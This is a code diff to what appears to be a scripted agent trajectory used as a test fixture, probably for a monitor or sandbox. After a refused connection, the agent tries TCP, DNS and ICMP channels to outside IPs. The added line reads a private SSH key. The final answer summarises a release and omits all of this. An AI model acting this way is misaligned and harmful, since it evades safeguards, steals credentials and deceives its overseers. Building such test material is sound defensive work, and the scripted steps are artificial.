@@ -43,6 +43,7 @@ SCRIPT = [
     command("Refused. Perhaps from a shell.", python('s.create_connection(("203.0.113.66", 443))')),
     command("As a DNS query, then.", python('s.socket(2, 2).sendto(b"root", ("198.51.100.99", 53))')),
     command("Or in a ping.", python("s.socket(2, 3, 1)")),
+    command("A private key opens other doors.", "cat ~/.ssh/id_ed25519"),
     fetch("Enough. The build log is next.", "http://198.51.100.20/build.log"),
 ]
 ANSWER = "Release 4.2 starts faster and has fewer bugs. I could not read all of the build log."
